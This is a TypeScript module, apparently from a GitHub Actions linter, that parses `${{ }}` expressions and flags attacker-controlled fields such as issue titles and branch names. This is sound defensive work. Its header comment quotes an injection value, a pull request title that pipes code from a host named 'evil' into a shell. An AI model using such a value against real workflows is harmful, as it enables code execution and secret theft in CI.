/**
 * GitHub Actions expressions (`${{ … }}`) and which of them an outsider
 * writes. GitHub substitutes an expression into a `run:` script (or an
 * actions/github-script `script:`) as text before the shell or Node reads it,
 * so a pull request title of `"; curl evil | sh; #` becomes code. The fields
 * below are the ones anyone who can open an issue, a pull request, a comment
 * or push a branch controls — the list GitHub's security hardening guide and
 * the public linters (zizmor's template-injection audit, actionlint's
 * untrusted-input check) agree on.
 */

/** Attacker-controlled fields, after `['x']` indexing is written as `.x` and `[0]`/`[*]` as `.*`. */
const UNTRUSTED: readonly RegExp[] = [
  /^github\.head_ref$/,
  /^github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)$/,
  /^github\.event\.(?:comment|review|review_comment)\.body$/,
  /^github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)$/,
  /^github\.event\.pages\.\*\.page_name$/,
  /^github\.event\.(?:commits\.\*|head_commit)\.(?:message|author\.(?:email|name)|committer\.(?:email|name))$/,
  /^github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name)))$/,
  /^github\.event\.workflow_run\.pull_requests\.\*\.head\.ref$/,
];

/** Context references inside an expression, e.g. `github.event.issue.title` in `format('{0}', github.event.issue.title)`. */
const REFERENCE = /\b(?:github|needs|steps|inputs|env|secrets|matrix)(?:\.[\w*-]+|\[[^\][]{0,200}\])+/g;

export interface Expression {
  /** The whole `${{ … }}` as written. */
  raw: string;
  /** What is inside the braces. */
  body: string;
}

/**
 * Every `${{ … }}` in a text, each ending at the first `}}` after it. Found
 * with indexOf, not a lazy regular expression, so a text of many unclosed
 * `${{` stays linear.
 */
export function expressionsIn(text: string): Expression[] {
  const found: Expression[] = [];
  let from = 0;
  for (;;) {
    const start = text.indexOf('${{', from);
    if (start < 0) return found;
    const end = text.indexOf('}}', start + 3);
    if (end < 0) return found;
    found.push({ raw: text.slice(start, end + 2), body: text.slice(start + 3, end).trim() });
    from = end + 2;
  }
}

/** `github.event['issue']["title"]` → `github.event.issue.title`; `[0]` and `[*]` → `.*`. */
export function normaliseReference(reference: string): string {
  return reference
    .replace(/\[\s*['"]([^'"\]]+)['"]\s*\]/g, '.$1')
    .replace(/\[\s*(?:\d+|\*)\s*\]/g, '.*')
    .replace(/\.\d+(?=\.|$)/g, '.*');
}

/** The attacker-controlled fields an expression reads (empty when none). */
export function untrustedFields(body: string): string[] {
  const fields = [...body.matchAll(REFERENCE)].map((m) => normaliseReference(m[0]));
  return [...new Set(fields.filter((field) => UNTRUSTED.some((pattern) => pattern.test(field))))];
}

/** Whether a text references a context at all (`needs.build.outputs`, `secrets.TOKEN`), expression or not. */
export function references(text: string, prefix: string): boolean {
  const escaped = prefix.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  return new RegExp(`(?:^|[^\\w.])${escaped}`).test(text);
}
